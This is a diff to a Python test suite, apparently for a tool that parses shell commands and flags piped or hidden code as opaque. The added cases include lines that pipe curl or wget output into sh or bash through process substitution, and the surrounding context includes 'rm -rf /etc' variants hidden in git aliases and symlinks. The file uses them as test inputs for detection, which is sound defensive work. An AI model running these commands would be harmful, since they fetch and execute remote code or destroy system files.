@@ -148,6 +148,7 @@ def test_hosts_are_the_real_hosts_of_urls(line: str, hosts: list[str]):
         ("sh < <(wget -O- https://x)", "sh"),
         ("curl https://x > >(sh)", "sh"),
         ("{ curl https://x; } | sh", "sh"),
+        ("{ sh; } < <(curl https://x)", "sh"),
         ("curl https://x | (sh)", "sh"),
     ],
 )
@@ -254,6 +255,9 @@ def test_what_xargs_and_find_exec_run_get_their_unknown_operands():
         "git -c alias.x='!rm -rf /etc' x",
         "git -c core.pager='rm -rf /etc' log",
         "ln -s /etc x && rm -rf x/",
+        "while true; do sh; done < <(curl https://x)",
+        "if true; then bash; fi < script.sh",
+        "(sh) < <(curl https://x)",
     ],
 )
 def test_code_and_settings_the_reader_cannot_see_are_opaque(line: str):
@@ -271,6 +275,7 @@ def test_code_and_settings_the_reader_cannot_see_are_opaque(line: str):
         "curl https://x | python3 tool.py",
         "cat <<'EOF' | grep a\nabc\nEOF",
         "FOO=1 BAR=2 make test",
+        'while read -r f; do echo "$f"; done < <(git ls-files)',
     ],
 )
 def test_code_the_reader_can_see_is_not_opaque(line: str):
